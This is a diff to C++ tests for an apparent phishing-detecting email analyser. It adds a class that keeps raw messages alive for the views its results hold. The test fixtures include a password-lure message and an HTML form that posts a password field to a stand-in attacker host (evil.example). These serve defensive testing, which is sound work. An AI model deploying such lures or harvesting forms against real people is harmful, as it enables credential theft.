@@ -4,6 +4,7 @@
 
 #include <array>
 #include <chrono>
+#include <deque>
 #include <set>
 
 #include "base/base64.h"
@@ -443,9 +444,22 @@ const std::string kOffer =
     "Dear customer, your account was locked today. Please confirm your password at http://evil.example/login within "
     "two days or it will be closed for ever.\n";
 
+// Facts are views into the message, which stays.
+class Keeper {
+ public:
+  const Analysis& analyse(std::string raw) {
+    kept_.push_back(std::move(raw));
+    return analyser_.analyse(kept_.back());
+  }
+
+ private:
+  Analyser analyser_;
+  std::deque<std::string> kept_;
+};
+
 // What a reader is shown is read, in whatever bytes it came.
 TEST(Facts, text_is_read_in_every_form_it_is_shown_in) {
-  Analyser analyser;
+  Keeper analyser;
   const auto message = [](const std::string& type, const std::string& body) {
     return "From: a@example.com\nMIME-Version: 1.0\nContent-Type: " + type + "\nContent-Transfer-Encoding: base64\n\n" +
            base64(body);
@@ -490,7 +504,7 @@ TEST(Facts, text_is_read_in_every_form_it_is_shown_in) {
 
 // A page beside the text is opened by a browser, whatever its declared type.
 TEST(Facts, attached_pages_are_read) {
-  Analyser analyser;
+  Keeper analyser;
   const std::string page =
       "<html><body><form action='http://evil.example/p'><input type=password name=p></form><a "
       "href='http://evil.example/a'>open</a></body></html>";
@@ -527,7 +541,7 @@ TEST(Facts, attached_pages_are_read) {
 }
 
 TEST(Facts, a_page_without_a_declared_charset_is_read_in_its_own) {
-  Analyser analyser;
+  Keeper analyser;
   const auto shown = [&](const std::string& page) {
     const Analysis& a = analyser.analyse("From: a@example.com\nContent-Type: text/html\n\n" + page);
     return std::string(a.texts.at(0).visible);
